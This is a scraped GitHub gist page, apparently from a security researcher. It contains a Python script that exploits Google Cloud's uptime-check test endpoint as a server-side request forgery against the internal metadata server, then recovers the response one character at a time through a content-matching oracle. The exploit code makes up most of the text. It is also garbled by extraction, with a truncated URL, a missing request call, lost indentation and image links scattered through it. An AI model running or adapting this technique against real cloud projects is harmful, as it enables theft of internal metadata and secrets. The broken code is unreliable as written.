Skip to content

Instantly share code, notes, and snippets.

What would you like to do?
# This is only basic version to get the idea how the script to parse response worked, I made it faster later by
# making asynchronous calls
import requests
# This endpoint is called when the Test button in uptime checks is pressed
url = '<projectId>:validateUptimeCheckConfig'
body = '{"checkerType":"WHITELISTED_CHECKERS","contentMatchers":[{"content":"XXXX","matcher":"CONTAINS_STRING"}],' \
'"displayName":"test","httpCheck":{"headers":{"Metadata-Flavor":"Google"},' \'"path":"/computeMetadata/v1/project/project-id","port":80,"validateSsl":false},"logCheckFailures":true,' \
headers = {# REDACTED - authentication headers (copied from the browser)
def is_containing(chcked_string):
request_body = body.replace("XXXX", chcked_string)
r =, data=request_body, headers=headers)
result = r.json()
res_parsed = result['uptimeCheckResults'][0]
return 'contentMismatch' not inres_parsed
contained_string = ''
charset = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_'
while True:
found = False
if not found:
for ch in charset:
validated_string = contained_string + ch
print('Trying ', validated_string)
if is_containing(validated_string):
print('Found: ' + validated_string)
contained_string = validated_string;
found = True
if not found:
print('Did not find any, end ', contained_string)
print('Current string: ', contained_string)Sign up for free to join thisconversation on GitHub. Alreadyhave an account? Sign in to comment